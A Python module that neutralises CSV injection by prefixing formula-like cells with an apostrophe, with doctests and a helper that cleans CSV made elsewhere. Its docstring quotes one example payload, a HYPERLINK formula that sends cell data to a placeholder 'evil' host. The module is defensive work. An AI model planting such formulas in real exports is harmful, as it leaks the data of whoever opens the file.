"""CSV that is safe to open in a spreadsheet: the one writer every CSV the project writes uses.

A spreadsheet program reads a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula
(and a leading tab or carriage return can hide one), so a saved curriculum whose course title
is ``=HYPERLINK("http://evil/?"&A1, "click")`` would run in the reader's spreadsheet (CSV
injection, issue 20). Such a cell is written with a leading apostrophe, which spreadsheets show
as text and which the OWASP guidance recommends. Plain numbers (``-3``, ``+1.5``, ``-2e3``) are
left alone: they cannot be formulas, and a negative number must stay a number.

>>> spreadsheet_safe('=HYPERLINK("http://x")'), spreadsheet_safe("-3"), spreadsheet_safe("@SUM(A1)")
('\\'=HYPERLINK("http://x")', '-3', "'@SUM(A1)")
>>> spreadsheet_safe("\\t=1+1"), spreadsheet_safe("数字技术"), spreadsheet_safe(7), spreadsheet_safe("-1+1")
("'\\t=1+1", '数字技术', 7, "'-1+1")
>>> import io
>>> out = io.StringIO()
>>> csv_writer(out).writerow(["2-02-38-01", "+86 10 1234"])
>>> out.getvalue()
"2-02-38-01,'+86 10 1234\\n"
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import IO, Any

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def spreadsheet_safe(cell: Any) -> Any:
    """The cell as a spreadsheet will show it as text: formula-like strings get a leading ``'``."""
    if isinstance(cell, str) and cell.startswith(_FORMULA_START) and not _NUMBER.fullmatch(cell):
        return "'" + cell
    return cell


class SafeWriter:
    """``csv.writer`` whose rows pass through ``spreadsheet_safe``."""

    def __init__(self, out: IO[str], **kwargs: Any) -> None:
        kwargs.setdefault("lineterminator", "\n")
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([spreadsheet_safe(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: IO[str], **kwargs: Any) -> SafeWriter:
    """The CSV writer to use everywhere (line feed line ends unless told otherwise)."""
    return SafeWriter(out, **kwargs)


def neutralise_csv(text: str, *, lineterminator: str = "\r\n") -> str:
    """A CSV document re-written with every cell made spreadsheet-safe (for CSV made elsewhere,
    such as the SPARQL engine's CSV results).

    >>> neutralise_csv('s,label\\r\\nhttp://e/a,=1+2\\r\\n')
    "s,label\\r\\nhttp://e/a,'=1+2\\r\\n"
    """
    import io

    out = io.StringIO()
    writer = csv_writer(out, lineterminator=lineterminator)
    for row in csv.reader(io.StringIO(text, newline="")):
        writer.writerow(row)
    return out.getvalue()
